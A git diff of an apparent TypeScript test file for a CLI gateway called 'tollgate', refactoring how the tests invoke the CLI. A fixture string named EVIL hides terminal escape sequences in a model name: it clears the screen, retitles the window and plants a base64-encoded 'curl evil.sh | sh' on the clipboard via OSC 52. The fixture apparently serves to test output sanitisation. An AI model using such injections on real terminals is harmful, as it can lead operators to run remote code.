@@ -7,9 +7,9 @@
  * are JSON.
  */
 import { afterAll, beforeAll, describe, expect, test } from 'bun:test'
-import { join } from 'node:path'
 import { startMockProvider, type MockProvider } from './support/mock-provider'
-import { BUN, MASTER_KEY, ROOT, startTestGateway, type TestGateway } from './support/gateway'
+import { startTestGateway, type TestGateway } from './support/gateway'
+import { tollgateOutput } from './support/cli'
 
 let mock: MockProvider
 let gw: TestGateway
@@ -23,16 +23,7 @@ afterAll(async () => {
   await mock.stop()
 })
 
-async function tollgate(args: string[]) {
-  const proc = Bun.spawn([BUN, join(ROOT, 'src', 'index.ts'), ...args], {
-    env: { PATH: process.env.PATH ?? '', TOLLGATE_URL: gw.url, TOLLGATE_MASTER_KEY: MASTER_KEY },
-    stdout: 'pipe',
-    stderr: 'pipe',
-  })
-  const [code, stdout, stderr] = await Promise.all([proc.exited, new Response(proc.stdout).text(), new Response(proc.stderr).text()])
-  if (code !== 0) throw new Error(`tollgate ${args.join(' ')} exited ${code}: ${stderr}`)
-  return stdout
-}
+const tollgate = (args: string[]) => tollgateOutput(gw.url, args)
 
 // Clear the screen, home the cursor, set the title, and put text on the operator's clipboard.
 const EVIL = 'mock:x\u001b[2J\u001b[H\u001b]0;pwned\u0007\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007\rmock:gpt-4o  unchanged'
